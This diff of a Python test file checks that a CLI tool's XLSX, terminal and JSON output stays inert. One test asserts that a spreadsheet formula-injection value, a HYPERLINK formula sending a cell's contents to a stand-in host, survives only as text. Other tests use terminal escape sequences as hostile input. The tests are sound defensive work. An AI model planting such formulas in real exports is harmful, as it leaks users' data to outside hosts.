@@ -141,7 +141,7 @@ def test_xlsx_export_has_only_text_cells(run_line: RunLine, hostile: Path, tmp_p
     workbook = load_workbook(target)
     values = [c.value for ws in workbook.worksheets for row in ws.iter_rows() for c in row]
     assert '=HYPERLINK("http://h/?"&A3)' in " ".join(str(v) for v in values)
-    assert "-2+3 _x0000_ nul" in values
+    assert "-2+3 \\x00 nul" in values
 
 
 def test_graph_formats_are_well_formed(run_line: RunLine, hostile: Path) -> None:
@@ -179,3 +179,23 @@ def test_rich_markup_in_a_path_does_not_crash(
     with progress("Checking") as update:
         assert update is not None
         update("[/x].yaml")
+
+
+def test_data_formats_on_a_terminal_are_escaped(
+    hostile: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
+) -> None:
+    from raci.cli.output import emit
+
+    monkeypatch.setattr("sys.stdout.isatty", lambda: True, raising=False)
+    emit("a,\x1b[2Jb\nc\n", None)
+    assert capsys.readouterr().out == "a,\\x1b[2Jb\nc\n"
+    monkeypatch.setattr("sys.stdout.isatty", lambda: False, raising=False)
+    emit("a,\x1b[2Jb\n", None)
+    assert capsys.readouterr().out == "a,\x1b[2Jb\n"
+
+
+def test_json_never_holds_infinity_or_nan() -> None:
+    text = escape.json_text({"a": float("inf"), "b": [float("nan"), 1.5], "c": "\x9b2J"})
+    assert json.loads(text) == {"a": None, "b": [None, 1.5], "c": "\x9b2J"}
+    assert "\x9b" not in text
+    assert "Infinity" not in text
